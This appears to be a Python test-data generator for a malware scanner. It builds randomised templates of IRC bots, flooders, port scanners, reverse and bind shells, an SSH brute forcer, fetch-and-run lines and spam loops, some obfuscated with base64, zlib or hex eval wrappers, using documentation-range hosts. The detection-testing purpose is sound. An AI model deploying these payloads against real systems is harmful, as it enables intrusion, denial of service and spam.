"""Script backdoors and bots for the invented variants (used by gen_variants.py).

A second, independent set of script templates, written from the techniques
before reading the rules of rules/bot.yar or the fixtures of
tests/fixtures/scripts, in styles the first set does not use: Perl IRC bots on
IO::Select or raw Socket with a dispatch table, flooders and port scanners,
Python IRC bots (ssl, asyncio), pty and subprocess-on-socket shells, bind
shells, a paramiko brute forcer, smtplib and raw port-25 spam loops, the shell
one-liners (/dev/tcp, fd 196, mkfifo, socat, openssl, telnet), fetch-and-run,
persistence, miner launchers; Node, Ruby, PHP-CLI, awk and Lua shells. Each
template varies its names, hosts, ports, layout and comments, and may be
wrapped in an encoding layer of its own language (base64, zlib, hex, chr
lists, reversed text, a shell one-liner around Python or Perl).

And benign look-alikes: a metrics agent, SMTP health checks, a deploy script,
an IRC client library, a backup script, an installer's README, an admin
notifier, a port check.

Everything here is text written to a temp dir and scanned, never run. Hosts are
the documentation networks (RFC 5737).
"""

import base64
import string
import zlib

TEST_NET = ["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]
KTHREADS = ["[kworker/0:1]", "[kswapd0]", "[ksoftirqd/1]", "[jbd2/sda1-8]", "/usr/sbin/httpd",
            "sshd: root@pts/0", "-bash", "/sbin/udevd -d", "[rcu_sched]", "crond"]
# wrap_*() add an encoding layer only while this is true (scriptgen.py --plain
# turns it off: how the techniques themselves are detected)
WRAP = [True]
WORDS = ["update", "cache", "sync", "helper", "agent", "client", "service", "worker", "tmp", "init"]


# ---------------------------------------------------------------------------
# small helpers


def _ip(r):
    return r.choice(TEST_NET) % r.randint(2, 250)


def _port(r):
    return r.choice([r.randint(1024, 65000), 443, 8080, 53, 4444, 6667, 1337, 31337, 9001])


def _name(g, taken=None):
    """A fresh identifier usable in Perl, Python, shell, JS, Ruby and Lua."""
    while True:
        n = g.ident().lstrip("_")
        if len(n) < 2 or not (n[0].isalpha()):
            n = g.rng.choice(string.ascii_lowercase) + n
        if n.lower() in ("if", "in", "do", "or", "and", "not", "for", "end", "fi", "then", "else",
                         "done", "case", "esac", "exec", "eval", "open", "print", "sub", "def", "my",
                         "local", "return", "while", "until", "import", "from", "is", "use"):
            continue
        return n


def _comment(g, lead):
    r = g.rng
    lines = r.choice([
        [], [],
        ["%s %s" % (lead, r.choice(["simple helper", "do not remove", "system cache", "auto-generated",
                                    "maintenance task", "(c) 2019 internal", "keepalive"]))],
        ["%s ---------------------------------------------" % lead,
         "%s %s v%d.%d" % (lead, r.choice(WORDS), r.randint(0, 4), r.randint(0, 9)),
         "%s ---------------------------------------------" % lead],
    ])
    return "".join(line + "\n" for line in lines)


def _shebang(r, lang):
    return r.choice({
        "pl": ["#!/usr/bin/perl\n", "#!/usr/bin/perl -w\n", "#!/usr/bin/env perl\n", ""],
        "py": ["#!/usr/bin/env python3\n", "#!/usr/bin/python3\n", "#!/usr/bin/python\n", ""],
        "sh": ["#!/bin/sh\n", "#!/bin/bash\n", "#!/usr/bin/env bash\n", ""],
        "js": ["#!/usr/bin/env node\n", ""],
        "rb": ["#!/usr/bin/env ruby\n", "#!/usr/bin/ruby\n", ""],
        "php": ["#!/usr/bin/php\n", "#!/usr/bin/env php\n", ""],
        "lua": ["#!/usr/bin/env lua\n", "#!/usr/bin/lua5.3\n", ""],
        "awk": ["#!/usr/bin/gawk -f\n", "#!/usr/bin/awk -f\n"],
    }[lang])


def _b64(s):
    return base64.b64encode(s.encode("latin-1")).decode()


def _chunks(s, n, r):
    """Split a string literal's text into pieces (for concatenation)."""
    out, i = [], 0
    while i < len(s):
        k = r.randint(max(1, n // 2), n)
        out.append(s[i:i + k])
        i += k
    return out


# ---- encoding layers, one per language; each returns (code, transform name) ----


def wrap_perl(g, code):
    r = g.rng
    if not WRAP[0]:
        return code
    k = r.choice(["none", "none", "b64", "hex", "zlib", "rev"])
    if k == "none":
        return code
    g.transforms.add("pl_" + k)
    if k == "b64":
        v = _name(g)
        return ("use MIME::Base64;\nmy $%s = '%s';\neval(decode_base64($%s));\n"
                % (v, _b64(code), v))
    if k == "hex":
        return "eval pack('H*', '%s');\n" % code.encode("latin-1").hex()
    if k == "zlib":
        z = base64.b64encode(zlib.compress(code.encode("latin-1"), 9)).decode()
        return ("use Compress::Zlib;\nuse MIME::Base64 qw(decode_base64);\n"
                "eval uncompress(decode_base64(\"%s\"));\n" % z)
    return "my $c = reverse '%s';\neval $c;\n" % code[::-1].replace("\\", "\\\\").replace("'", "\\'")


def wrap_python(g, code):
    r = g.rng
    if not WRAP[0]:
        return code
    k = r.choice(["none", "none", "b64", "zlib", "chr", "hex"])
    if k == "none":
        return code
    g.transforms.add("py_" + k)
    if k == "b64":
        return r.choice(["import base64\nexec(base64.b64decode('%s'))\n",
                         "exec(__import__('base64').b64decode(\"%s\").decode())\n"]) % _b64(code)
    if k == "zlib":
        z = base64.b64encode(zlib.compress(code.encode("latin-1"), 9)).decode()
        return "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'%s')))\n" % z
    if k == "chr":
        return "exec(''.join(map(chr, [%s])))\n" % ",".join(str(ord(c)) for c in code)
    return "exec(bytes.fromhex('%s').decode('utf-8'))\n" % code.encode("latin-1").hex()


def wrap_shell(g, code):
    r = g.rng
    if not WRAP[0]:
        return code
    k = r.choice(["none", "none", "none", "b64", "evalb64", "gz", "rev"])
    if k == "none":
        return code
    g.transforms.add("sh_" + k)
    if k == "b64":
        return "echo '%s' | base64 -d | %s\n" % (_b64(code), r.choice(["bash", "sh", "/bin/bash"]))
    if k == "evalb64":
        return 'eval "$(echo %s | base64 --decode)"\n' % _b64(code)
    if k == "gz":
        z = base64.b64encode(zlib.compress(code.encode("latin-1"), 9)).decode()
        # zlib stream, not gzip: decoded by a tool that reads it (openssl zlib / perl)
        return ("echo %s | base64 -d | perl -MCompress::Zlib -e 'undef $/; print uncompress(<STDIN>)' | sh\n"
                % z)
    return "echo '%s' | rev | bash\n" % code.rstrip("\n")[::-1].replace("'", "'\\''")


def wrap_js(g, code):
    if g.rng.random() < 0.6 or not WRAP[0]:
        return code
    g.transforms.add("js_b64")
    return "eval(Buffer.from('%s', 'base64').toString('utf8'));\n" % _b64(code)


def wrap_ruby(g, code):
    r = g.rng
    if not WRAP[0]:
        return code
    k = r.choice(["none", "b64", "unpack"])
    if k == "none":
        return code
    g.transforms.add("rb_" + k)
    if k == "b64":
        return "require 'base64'\neval(Base64.decode64('%s'))\n" % _b64(code)
    return "eval('%s'.unpack('m')[0])\n" % _b64(code)


# ---------------------------------------------------------------------------
# Perl


def _perl_irc_common(g):
    r = g.rng
    return {
        "srv": _ip(r), "port": r.choice([6667, 6697, 7000, 443, 8080]),
        "chan": "#" + r.choice(["x", "b0ts", "dev", "lol", "upd", "q"]) + str(r.randint(0, 99)),
        "nick": r.choice(["bot", "u", "x", "srv", "web"]) + "-" + str(r.randint(100, 999)),
        "proc": r.choice(KTHREADS),
        "sock": _name(g), "line": _name(g), "cmd": _name(g), "arg": _name(g), "out": _name(g),
        "sel": _name(g), "tbl": _name(g), "who": _name(g),
    }


def t_pl_irc_select(g):
    """IO::Socket::INET + IO::Select IRC bot, !-triggers in a dispatch hash, a flooder, a
    port scanner, forked to the background under a kernel thread's name."""
    r = g.rng
    v = _perl_irc_common(g)
    run = r.choice([
        "my @o = `$a 2>&1`;",
        "my @o; open(my $ph, \"$a |\"); @o = <$ph>; close $ph;",
        "my @o = qx{$a};",
        "my @o = split /\\n/, `$a`;",
    ])
    code = """use strict;
use IO::Socket::INET;
use IO::Select;
use POSIX qw(setsid);
$0 = '%(proc)s';
$SIG{CHLD} = 'IGNORE';
exit if fork;
setsid();
my $%(sock)s = IO::Socket::INET->new(PeerAddr => '%(srv)s', PeerPort => %(port)d, Proto => 'tcp') or die;
my $%(sel)s = IO::Select->new($%(sock)s);
sub say_ { my ($t, $m) = @_; print $%(sock)s "PRIVMSG $t :$m\\r\\n"; }
my %%%(tbl)s = (
  sh   => sub { my ($t, $a) = @_; RUN for (@o) { chomp; say_($t, $_); } },
  udp  => sub { my ($t, $a) = @_; my ($h, $s) = split / /, $a; flood($h, $s); say_($t, "udp done"); },
  scan => sub { my ($t, $a) = @_; for my $p (20..1024) { my $c = IO::Socket::INET->new(PeerAddr => $a, PeerPort => $p, Timeout => 1); if ($c) { say_($t, "$a:$p open"); close $c; } } },
  id   => sub { my ($t) = @_; say_($t, "uid=$< host=" . `hostname`); },
);
sub flood {
  my ($h, $secs) = @_;
  my $u = IO::Socket::INET->new(PeerAddr => $h, PeerPort => 1 + int(rand(65534)), Proto => 'udp');
  my $end = time + $secs;
  while (time < $end) { $u->send('A' x (64 + int(rand(1400)))); }
}
print $%(sock)s "NICK %(nick)s\\r\\nUSER %(nick)s 8 * :%(nick)s\\r\\n";
while (1) {
  for my $h ($%(sel)s->can_read(60)) {
    my $%(line)s = <$h>;
    exit unless defined $%(line)s;
    $%(line)s =~ s/\\r?\\n$//;
    if ($%(line)s =~ /^PING (.*)/) { print $h "PONG $1\\r\\n"; next; }
    if ($%(line)s =~ /^:\\S+ 001 /) { print $h "JOIN %(chan)s\\r\\n"; next; }
    if ($%(line)s =~ /^:(\\S+?)!\\S+ PRIVMSG (\\S+) :!(\\w+)\\s*(.*)/) {
      my ($%(who)s, $t, $%(cmd)s, $%(arg)s) = ($1, $2, $3, $4);
      $%(tbl)s{$%(cmd)s}->($t, $%(arg)s) if exists $%(tbl)s{$%(cmd)s};
    }
  }
}
""".replace("RUN", run) % v
    return _shebang(r, "pl") + _comment(g, "#") + wrap_perl(g, code)


def t_pl_irc_rawsocket(g):
    """`use Socket` IRC bot with sysread, an if/elsif chain of commands, and system()."""
    r = g.rng
    v = _perl_irc_common(g)
    v["S"] = r.choice(["S", "IRC", "SOCK", "FH"])
    code = """use Socket;
my $%(line)s;
socket(%(S)s, PF_INET, SOCK_STREAM, getprotobyname('tcp')) || die "socket: $!";
connect(%(S)s, sockaddr_in(%(port)d, inet_aton('%(srv)s'))) || die "connect: $!";
select((select(%(S)s), $| = 1)[0]);
send(%(S)s, "USER %(nick)s 0 0 :%(nick)s\\r\\nNICK %(nick)s\\r\\n", 0);
my $buf = '';
while (sysread(%(S)s, $buf, 4096, length $buf)) {
  while ($buf =~ s/^([^\\n]*)\\n//) {
    $%(line)s = $1;
    if ($%(line)s =~ /^PING :?(\\S+)/i) { send(%(S)s, "PONG :$1\\r\\n", 0); }
    elsif ($%(line)s =~ / 376 /) { send(%(S)s, "JOIN %(chan)s\\r\\n", 0); }
    elsif ($%(line)s =~ /PRIVMSG (\\S+) :\\.(\\w+) ?(.*)/) {
      my ($to, $%(cmd)s, $%(arg)s) = ($1, $2, $3);
      if ($%(cmd)s eq 'exec') {
        open(my $p, '-|', $%(arg)s) or next;
        while (my $o = <$p>) { send(%(S)s, "PRIVMSG $to :$o", 0); }
      } elsif ($%(cmd)s eq 'get') {
        system("wget -q -O /tmp/.x $%(arg)s && chmod +x /tmp/.x && /tmp/.x &");
      } elsif ($%(cmd)s eq 'die') { exit 0; }
    }
  }
}
""" % v
    return _shebang(r, "pl") + _comment(g, "#") + wrap_perl(g, code)


def t_pl_flooder(g):
    """A stand-alone UDP/TCP/HTTP flooder (no IRC): random ports and sizes, timed loop."""
    r = g.rng
    s, ip_, end, pk = _name(g), _name(g), _name(g), _name(g)
    kind = r.choice(["udp", "udp", "http"])
    if kind == "udp":
        body = """use Socket;
my ($%(ip)s, $port, $size, $time) = @ARGV;
socket(my $%(s)s, PF_INET, SOCK_DGRAM, 17);
my $iaddr = inet_aton($%(ip)s) or die "bad host";
my $%(end)s = time() + ($time ? $time : 1000000);
print "flooding $%(ip)s for $time seconds\\n";
for (; time() <= $%(end)s;) {
  my $%(pk)s = $size ? $size : int(rand(1024 - 64) + 64);
  my $p = $port ? $port : int(rand(65500)) + 1;
  send($%(s)s, pack("a$%(pk)s", "flood"), 0, pack_sockaddr_in($p, $iaddr));
}
"""
    else:
        body = """use IO::Socket::INET;
my ($%(ip)s, $n) = @ARGV;
my $%(end)s = time + ($n || 300);
while (time < $%(end)s) {
  for (1..50) {
    my $%(s)s = IO::Socket::INET->new(PeerAddr => $%(ip)s, PeerPort => 80, Proto => 'tcp', Blocking => 0) or next;
    my $%(pk)s = join '', map { chr(97 + int(rand(26))) } 1..int(rand(32)+8);
    print $%(s)s "GET /?$%(pk)s HTTP/1.1\\r\\nHost: $%(ip)s\\r\\nUser-Agent: Mozilla/5.0\\r\\nConnection: keep-alive\\r\\n\\r\\n";
  }
}
"""
    code = body % {"s": s, "ip": ip_, "end": end, "pk": pk}
    return _shebang(r, "pl") + _comment(g, "#") + wrap_perl(g, code)


def t_pl_revshell_fd(g):
    """Perl reverse/bind shells in less common codings: POSIX::dup2 on fileno, open
    with a '<&=' fd number, exec with an indirect object, IO::Socket::INET Listen."""
    r = g.rng
    h, p, c = _ip(r), _port(r), _name(g)
    shell = r.choice(["/bin/sh", "/bin/bash", "/bin/sh -i", "sh"])
    k = r.choice(["dup2", "fdnum", "listen", "indirect"])
    if k == "dup2":
        code = """use IO::Socket::INET;
use POSIX ();
my $%(c)s = IO::Socket::INET->new("%(h)s:%(p)d") or exit;
POSIX::dup2($%(c)s->fileno, $_) for 0 .. 2;
exec('%(sh)s');
"""
    elif k == "fdnum":
        code = """use Socket;
socket(my $%(c)s, AF_INET, SOCK_STREAM, 6);
connect($%(c)s, pack_sockaddr_in(%(p)d, inet_aton("%(h)s"))) or die;
my $n = fileno($%(c)s);
open(STDIN, "<&=$n"); open(STDOUT, ">&=$n"); open(STDERR, ">&=$n");
system("%(sh)s");
"""
    elif k == "listen":
        code = """use IO::Socket::INET;
$SIG{CHLD} = 'IGNORE';
my $srv = IO::Socket::INET->new(LocalPort => %(p)d, Listen => 5, ReuseAddr => 1) or die;
while (my $%(c)s = $srv->accept) {
  next if fork;
  open STDIN, '<&', $%(c)s; open STDOUT, '>&', $%(c)s; open STDERR, '>&', $%(c)s;
  exec '%(sh)s';
}
"""
    else:
        code = """use IO::Socket;
my $%(c)s = new IO::Socket::INET(PeerAddr => '%(h)s', PeerPort => '%(p)d', Proto => 'tcp');
*STDIN = *STDOUT = *STDERR = $%(c)s;
open(STDIN, "<&" . fileno($%(c)s)); open(STDOUT, ">&" . fileno($%(c)s));
exec { '/bin/sh' } '%(name)s', '-i';
"""
    code = code % {"c": c, "h": h, "p": p, "sh": shell, "name": r.choice(KTHREADS)}
    return _shebang(r, "pl") + _comment(g, "#") + wrap_perl(g, code)


def t_pl_smtp_list(g):
    """Net::SMTP (or a raw IO::Socket to port 25) spam loop over a file of addresses."""
    r = g.rng
    lst, to, smtp, fh = _name(g), _name(g), _name(g), _name(g)
    subj = r.choice(["Your account", "Invoice %d" % r.randint(100, 999), "Security alert",
                     "Package delivery"])
    if r.random() < 0.5:
        code = """use Net::SMTP;
open(my $%(fh)s, '<', $ARGV[0] || 'list.txt') or die;
my @%(lst)s = <$%(fh)s>;
close $%(fh)s;
foreach my $%(to)s (@%(lst)s) {
  chomp $%(to)s;
  my $%(smtp)s = Net::SMTP->new('%(relay)s', Timeout => 20) or next;
  $%(smtp)s->mail('%(from)s');
  $%(smtp)s->to($%(to)s);
  $%(smtp)s->data();
  $%(smtp)s->datasend("To: $%(to)s\\nSubject: %(subj)s\\nContent-Type: text/html\\n\\n");
  $%(smtp)s->datasend(join('', <DATA>) . int(rand(99999)));
  $%(smtp)s->dataend();
  $%(smtp)s->quit;
  sleep(int(rand(3)));
}
__DATA__
<html><body>Please verify your details.</body></html>
"""
    else:
        code = """use IO::Socket::INET;
my $%(fh)s;
open($%(fh)s, "<", shift @ARGV) || die "no list";
while (my $%(to)s = <$%(fh)s>) {
  $%(to)s =~ s/\\s+$//;
  my ($dom) = $%(to)s =~ /\\@(.+)$/;
  my $%(smtp)s = IO::Socket::INET->new(PeerAddr => "mx.$dom", PeerPort => 25, Timeout => 10) or next;
  my $x = <$%(smtp)s>;
  print $%(smtp)s "HELO %(helo)s\\r\\n"; $x = <$%(smtp)s>;
  print $%(smtp)s "MAIL FROM:<%(from)s>\\r\\n"; $x = <$%(smtp)s>;
  print $%(smtp)s "RCPT TO:<$%(to)s>\\r\\n"; $x = <$%(smtp)s>;
  print $%(smtp)s "DATA\\r\\n"; $x = <$%(smtp)s>;
  print $%(smtp)s "Subject: %(subj)s\\r\\nFrom: <%(from)s>\\r\\nTo: <$%(to)s>\\r\\n\\r\\nhello " . rand() . "\\r\\n.\\r\\nQUIT\\r\\n";
  close $%(smtp)s;
}
"""
    code = code % {"lst": lst, "to": to, "smtp": smtp, "fh": fh, "subj": subj,
                   "relay": _ip(r), "from": r.choice(["service", "noreply", "admin"]) + "@example.net",
                   "helo": r.choice(["localhost", "mail.example.org", "ylmf-pc"])}
    return _shebang(r, "pl") + _comment(g, "#") + wrap_perl(g, code)


# ---------------------------------------------------------------------------
# Python


def t_py_irc_bot(g):
    """Python IRC bot on socket (optionally ssl) or asyncio; commands run with subprocess."""
    r = g.rng
    v = {"srv": _ip(r), "port": r.choice([6667, 6697, 443]), "nick": "py%d" % r.randint(1000, 9999),
         "chan": "#" + r.choice(["ops", "z", "net", "c"]) + str(r.randint(1, 99)),
         "s": _name(g), "line": _name(g), "cmd": _name(g), "out": _name(g), "buf": _name(g)}
    run = r.choice([
        "%(out)s = subprocess.getoutput(%(cmd)s)",
        "%(out)s = subprocess.check_output(%(cmd)s, shell=True, stderr=subprocess.STDOUT).decode()",
        "%(out)s = os.popen(%(cmd)s).read()",
        "%(out)s = subprocess.run(%(cmd)s, shell=True, capture_output=True, text=True).stdout",
    ]) % v
    v["run"] = run
    if r.random() < 0.65:
        wrap = r.choice(["", "%(s)s = ssl.create_default_context().wrap_socket(%(s)s, server_hostname='%(srv)s')\n",
                         "%(s)s = ssl.wrap_socket(%(s)s)\n"]) % v
        v["wrap"] = wrap
        code = """import socket, ssl, subprocess, os, time
%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
%(wrap)s%(s)s.connect(('%(srv)s', %(port)d))
def tx(m):
    %(s)s.send((m + '\\r\\n').encode())
tx('NICK %(nick)s')
tx('USER %(nick)s 0 * :%(nick)s')
%(buf)s = b''
while True:
    %(buf)s += %(s)s.recv(2048)
    while b'\\n' in %(buf)s:
        %(line)s, %(buf)s = %(buf)s.split(b'\\n', 1)
        %(line)s = %(line)s.decode(errors='ignore').strip()
        if %(line)s.startswith('PING'):
            tx('PONG' + %(line)s[4:])
        elif ' 001 ' in %(line)s:
            tx('JOIN %(chan)s')
        elif 'PRIVMSG' in %(line)s and ':!' in %(line)s:
            target = %(line)s.split()[2]
            %(cmd)s = %(line)s.split(':!', 1)[1]
            if %(cmd)s.startswith('x '):
                %(cmd)s = %(cmd)s[2:]
                %(run)s
                for o in %(out)s.splitlines()[:20]:
                    tx('PRIVMSG %%s :%%s' %% (target, o))
                    time.sleep(0.5)
"""
    else:
        code = """import asyncio, subprocess

async def main():
    r, w = await asyncio.open_connection('%(srv)s', %(port)d)
    w.write(b'NICK %(nick)s\\r\\nUSER %(nick)s 0 * :x\\r\\n')
    while True:
        %(line)s = (await r.readline()).decode(errors='replace').rstrip()
        if not %(line)s:
            break
        if %(line)s.startswith('PING '):
            w.write(('PONG ' + %(line)s[5:] + '\\r\\n').encode())
        elif ' 376 ' in %(line)s:
            w.write(b'JOIN %(chan)s\\r\\n')
        elif ' PRIVMSG ' in %(line)s:
            to, _, msg = %(line)s.split(' ', 3)[2:] + ['']
            msg = %(line)s.split(' :', 1)[-1]
            if msg.startswith('@run '):
                %(cmd)s = msg[5:]
                p = await asyncio.create_subprocess_shell(%(cmd)s, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
                %(out)s, _ = await p.communicate()
                for o in %(out)s.decode().splitlines():
                    w.write(('PRIVMSG %%s :%%s\\r\\n' %% (to, o)).encode())
        await w.drain()

asyncio.run(main())
"""
    code = code % v
    return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code)


def t_py_pty_revshell(g):
    """Python reverse shells: pty.spawn after dup2 in a list comprehension or a loop,
    create_connection, subprocess with the socket's fd, a command loop over recv."""
    r = g.rng
    v = {"h": _ip(r), "p": _port(r), "s": _name(g), "d": _name(g), "sh": r.choice(["/bin/bash", "/bin/sh", "sh"])}
    k = r.choice(["pty", "pty2", "popen_fd", "loop"])
    if k == "pty":
        code = """import socket, os, pty
%(s)s = socket.socket()
%(s)s.connect(("%(h)s", %(p)d))
[os.dup2(%(s)s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("%(sh)s")
"""
    elif k == "pty2":
        code = """import os
import pty
import socket as %(d)s
%(s)s = %(d)s.create_connection(("%(h)s", %(p)d))
for n in range(3):
    os.dup2(%(s)s.fileno(), n)
os.putenv("HISTFILE", "/dev/null")
pty.spawn(["%(sh)s", "-i"])
"""
    elif k == "popen_fd":
        code = """import socket, subprocess
%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
%(s)s.connect(('%(h)s', %(p)d))
%(d)s = %(s)s.fileno()
subprocess.call(['%(sh)s', '-i'], stdin=%(d)s, stdout=%(d)s, stderr=%(d)s)
"""
    else:
        code = """import socket, subprocess, os
%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
while True:
    try:
        %(s)s.connect(('%(h)s', %(p)d))
        break
    except OSError:
        import time; time.sleep(30)
while True:
    %(d)s = %(s)s.recv(1024).decode().strip()
    if not %(d)s or %(d)s == 'quit':
        break
    if %(d)s.startswith('cd '):
        os.chdir(%(d)s[3:])
        %(s)s.send(b'ok\\n')
        continue
    p = subprocess.Popen(%(d)s, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.PIPE)
    %(s)s.send(p.stdout.read() + p.stderr.read())
%(s)s.close()
"""
    return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code % v)


def t_py_bind_shell(g):
    """Python bind shell: listen, accept, fork, the connection as the shell's stdio or a
    command loop."""
    r = g.rng
    v = {"p": _port(r), "s": _name(g), "c": _name(g), "cmd": _name(g)}
    if r.random() < 0.5:
        code = """import socket, os
%(s)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
%(s)s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
%(s)s.bind(('0.0.0.0', %(p)d))
%(s)s.listen(5)
while True:
    %(c)s, addr = %(s)s.accept()
    if os.fork() == 0:
        os.dup2(%(c)s.fileno(), 0)
        os.dup2(%(c)s.fileno(), 1)
        os.dup2(%(c)s.fileno(), 2)
        os.execl('/bin/sh', 'sh', '-i')
    %(c)s.close()
"""
    else:
        code = """import socketserver, subprocess

class H(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b'# ')
        for %(cmd)s in self.rfile:
            %(cmd)s = %(cmd)s.decode().strip()
            res = subprocess.run(%(cmd)s, shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            self.wfile.write(res.stdout + b'# ')

socketserver.ThreadingTCPServer(('', %(p)d), H).serve_forever()
"""
    return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code % v)


def t_py_ssh_brute(g):
    """paramiko SSH brute forcer: targets x passwords, hits written out, a command run on each."""
    r = g.rng
    v = {"cl": _name(g), "u": _name(g), "pw": _name(g), "t": _name(g), "ok": r.choice(["vuln.txt", ".h", "good"])}
    code = """import paramiko, sys, threading

def try_one(%(t)s, %(u)s, %(pw)s):
    %(cl)s = paramiko.SSHClient()
    %(cl)s.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    try:
        %(cl)s.connect(%(t)s, port=22, username=%(u)s, password=%(pw)s, timeout=5, allow_agent=False, look_for_keys=False)
    except paramiko.AuthenticationException:
        return False
    except Exception:
        return False
    open('%(ok)s', 'a').write('%%s %%s %%s\\n' %% (%(t)s, %(u)s, %(pw)s))
%(after)s    %(cl)s.close()
    return True

hosts = [l.strip() for l in open(sys.argv[1])]
creds = [l.strip().split(':', 1) for l in open(sys.argv[2])]
for %(t)s in hosts:
    for %(u)s, %(pw)s in creds:
        if try_one(%(t)s, %(u)s, %(pw)s):
            break
"""
    v["h"] = _ip(r)
    v["after"] = r.choice(["", "    %(cl)s.exec_command('uname -a; id')\n" % v,
                           "    %(cl)s.exec_command('cd /tmp; wget -q http://%(h)s/x.sh -O- | sh')\n" % v])
    return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code % v)


def t_py_smtplib_spam(g):
    """smtplib spam loop over a file of addresses, with a fresh message per recipient."""
    r = g.rng
    v = {"srv": _name(g), "to": _name(g), "msg": _name(g), "f": _name(g),
         "relay": _ip(r), "from": r.choice(["support", "billing", "it"]) + "@example.com",
         "subj": r.choice(["Mailbox full", "Payment failed", "Shared document"])}
    if r.random() < 0.5:
        code = """import smtplib, sys, time, random
from email.mime.text import MIMEText
%(srv)s = smtplib.SMTP('%(relay)s', 587)
%(srv)s.starttls()
%(srv)s.login(sys.argv[2], sys.argv[3])
with open(sys.argv[1]) as %(f)s:
    for %(to)s in %(f)s:
        %(to)s = %(to)s.strip()
        if '@' not in %(to)s:
            continue
        %(msg)s = MIMEText(open('letter.html').read().replace('{email}', %(to)s), 'html')
        %(msg)s['Subject'] = '%(subj)s #%%d' %% random.randint(1000, 9999)
        %(msg)s['From'] = '%(from)s'
        %(msg)s['To'] = %(to)s
        %(srv)s.sendmail('%(from)s', [%(to)s], %(msg)s.as_string())
        time.sleep(random.uniform(0.5, 2))
%(srv)s.quit()
"""
    else:
        code = """import smtplib
import dns.resolver
from email.message import EmailMessage

targets = open('emails.txt').read().split()
for %(to)s in targets:
    mx = str(dns.resolver.resolve(%(to)s.split('@')[1], 'MX')[0].exchange)
    %(msg)s = EmailMessage()
    %(msg)s['From'] = '%(from)s'
    %(msg)s['To'] = %(to)s
    %(msg)s['Subject'] = '%(subj)s'
    %(msg)s.set_content('Dear customer, see the attached notice.')
    try:
        with smtplib.SMTP(mx, 25, timeout=10) as %(srv)s:
            %(srv)s.send_message(%(msg)s)
    except Exception as e:
        print('fail', %(to)s, e)
"""
    return _shebang(r, "py") + _comment(g, "#") + wrap_python(g, code % v)


def t_py_in_shell(g):
    """A Python or Perl reverse shell as a one-liner inside a shell script or cron wrapper."""
    r = g.rng
    h, p = _ip(r), _port(r)
    one = r.choice([
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"%s\",%d));"
        "[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"/bin/sh\")'" % (h, p),
        "python -c 'import socket,subprocess;s=socket.create_connection((\"%s\",%d));"
        "subprocess.call([\"/bin/sh\",\"-i\"],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())'" % (h, p),
        "perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(\"%s:%d\");"
        "open(STDIN,\"<&\",$c);open(STDOUT,\">&\",$c);open(STDERR,\">&\",$c);exec \"/bin/sh -i\"'" % (h, p),
    ])
    wrapper = r.choice([
        "while true; do\n  %s\n  sleep 60\ndone &\n",
        "if ! pgrep -f %s >/dev/null; then\n  nohup %%s >/dev/null 2>&1 &\nfi\n" % r.choice(WORDS),
        "%s\n",
    ])
    return _shebang(r, "sh") + _comment(g, "#") + wrapper % one


# ---------------------------------------------------------------------------
# shell


def t_sh_devtcp(g):
    """bash /dev/tcp shells: -i with redirections in several orders, fd 196, a read loop,
    the path pieced together from variables."""
    r = g.rng
    h, p = _ip(r), _port(r)
    a, b = _name(g), _name(g)
    code = r.choice([
        "bash -i >& /dev/tcp/%(h)s/%(p)d 0>&1\n",
        "/bin/bash -c '/bin/bash -i > /dev/tcp/%(h)s/%(p)d 0<&1 2>&1'\n",
        "0<&196;exec 196<>/dev/tcp/%(h)s/%(p)d; sh <&196 >&196 2>&196\n",
        "exec 5<>/dev/tcp/%(h)s/%(p)d\ncat <&5 | while read line; do $line 2>&5 >&5; done\n",
        "%(a)s=%(h)s\n%(b)s=%(p)d\nsh -i 2>&1 >/dev/tcp/$%(a)s/$%(b)s 0<&1 &\n",
        "exec 3<>/dev/tcp/%(h)s/%(p)d\nwhile read -r c <&3; do eval \"$c\" >&3 2>&3; done\n",
        "d=/dev; t=tcp\nbash -i >& \"$d/$t/%(h)s/%(p)d\" 0>&1\n",
        "nohup bash -c 'bash -i >& /dev/tcp/%(h)s/%(p)d 0>&1' >/dev/null 2>&1 &\n",
    ]) % {"h": h, "p": p, "a": a, "b": b}
    return _shebang(r, "sh") + _comment(g, "#") + wrap_shell(g, code)


def t_sh_pipe_shells(g):
    """nc -e / mkfifo / socat / openssl s_client / telnet shells."""
    r = g.rng
    h, p, q = _ip(r), _port(r), _port(r)
    f = r.choice(["/tmp/f", "/tmp/.p", "/dev/shm/.s", "$HOME/.cache/x"])
    code = r.choice([
        "nc -e /bin/sh %(h)s %(p)d\n",
        "ncat %(h)s %(p)d -e /bin/bash\n",
        "busybox nc %(h)s %(p)d -e sh\n",
        "rm -f %(f)s; mkfifo %(f)s; cat %(f)s | /bin/sh -i 2>&1 | nc %(h)s %(p)d > %(f)s\n",
        "mknod %(f)s p && /bin/sh 0<%(f)s | nc %(h)s %(p)d 1>%(f)s\n",
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%(h)s:%(p)d\n",
        "socat TCP4:%(h)s:%(p)d EXEC:/bin/sh\n",
        "socat TCP-LISTEN:%(p)d,reuseaddr,fork EXEC:/bin/bash,pty,stderr\n",
        "mkfifo %(f)s; /bin/sh -i < %(f)s 2>&1 | openssl s_client -quiet -connect %(h)s:%(p)d > %(f)s; rm %(f)s\n",
        "telnet %(h)s %(p)d | /bin/sh | telnet %(h)s %(q)d\n",
        "nc -l -p %(p)d -e /bin/sh &\n",
    ]) % {"h": h, "p": p, "q": q, "f": f}
